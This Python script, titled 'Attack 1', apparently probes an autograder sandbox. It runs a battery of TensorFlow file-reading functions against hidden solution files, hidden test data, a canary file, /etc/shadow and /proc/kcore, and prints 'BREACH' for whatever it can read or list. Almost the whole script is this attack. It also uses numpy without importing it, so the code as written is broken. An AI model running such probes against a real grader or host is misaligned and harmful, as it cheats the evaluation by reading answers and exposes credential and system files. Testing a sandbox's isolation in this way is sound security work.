"""Attack 1: have TensorFlow's own file system read the tests and the solutions."""

import os
import sys

import tensorflow as tf

FOLDERS = {part for part in sys.orig_argv if part.startswith("/")}
FOLDERS |= {os.path.dirname(folder) for folder in FOLDERS} | {"/", "..", "/proc/1/root", "/root"}
FOLDERS |= {"/autograder/source/course", "/tmp"}
NAMES = (
    "solutions/keras_cnn.py",
    "tests/hidden/keras_cnn/data/mnist_test_10k.npz",
    "canary.txt",
)
FILES = [os.path.join(folder, name) for folder in FOLDERS for name in NAMES]
FILES += ["/etc/passwd", "/etc/shadow", "/proc/kcore"]


def first(dataset):
    return next(iter(dataset)).numpy()


def record(path):
    return next(tf.compat.v1.io.tf_record_iterator(path))


READERS = {
    "read_file": lambda path: tf.io.read_file(path).numpy(),
    "raw op": lambda path: tf.raw_ops.ReadFile(filename=path).numpy(),
    "gfile": lambda path: tf.io.gfile.GFile(path, "rb").read(1),
    "copy": lambda path: tf.io.gfile.copy(path, os.environ.get("TMPDIR", "/tmp") + "/copy"),
    "lines": lambda path: first(tf.data.TextLineDataset(path)),
    "bytes": lambda path: first(tf.data.FixedLengthRecordDataset(path, 1)),
    "records": record,
    "stat": lambda path: tf.io.gfile.stat(path).length,
    "saved model": tf.saved_model.load,
    "library": tf.load_op_library,
    "numpy": lambda path: np.fromfile(path, np.uint8, 1),
}
for path in sorted(FILES):
    for what, reader in READERS.items():
        try:
            found = reader(path)
        except Exception:
            continue
        if np.size(found):
            print("BREACH", what, path)
patterns = [os.path.join(folder, "*", "*.py") for folder in FOLDERS - set(sys.path)]
for place in [*FOLDERS - set(sys.path), "/proc"]:
    try:
        names = tf.io.gfile.listdir(place)
    except tf.errors.OpError:
        continue
    if {"solutions", "grading.yml", "canary.txt", "course", "etc", "root"} & set(names):
        print("BREACH folder", place, names)
try:
    print(*("BREACH pattern " + name for name in tf.io.gfile.glob(patterns) if "keras_cnn" in name))
except tf.errors.OpError:
    pass
print("tried TensorFlow's files", len(FILES) > 25)
